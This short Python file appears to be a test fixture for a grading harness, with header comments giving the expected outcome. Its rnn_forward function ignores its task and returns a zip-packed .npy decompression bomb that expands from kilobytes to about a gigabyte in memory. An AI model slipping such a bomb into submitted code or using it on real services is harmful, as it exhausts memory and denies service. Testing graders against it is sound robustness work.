# Tries: to unpack an archive of a few kilobytes to a gigabyte, and to return it.
# Earns: nothing
# Status: ok or memory
# Says: memory

# %%
import io
import zipfile

import numpy as np


def bomb():
    packed = io.BytesIO()
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        head, {"descr": "<f8", "fortran_order": False, "shape": (2**27,)}
    )
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("a.npy", "w") as file:
            file.write(head.getvalue())
            for _ in range(64):
                file.write(bytes(2**20))
    packed.seek(0)
    return packed


# %%
def rnn_forward(x, h_0, W_hx, W_hh, b_h):
    return np.load(bomb())["a"]
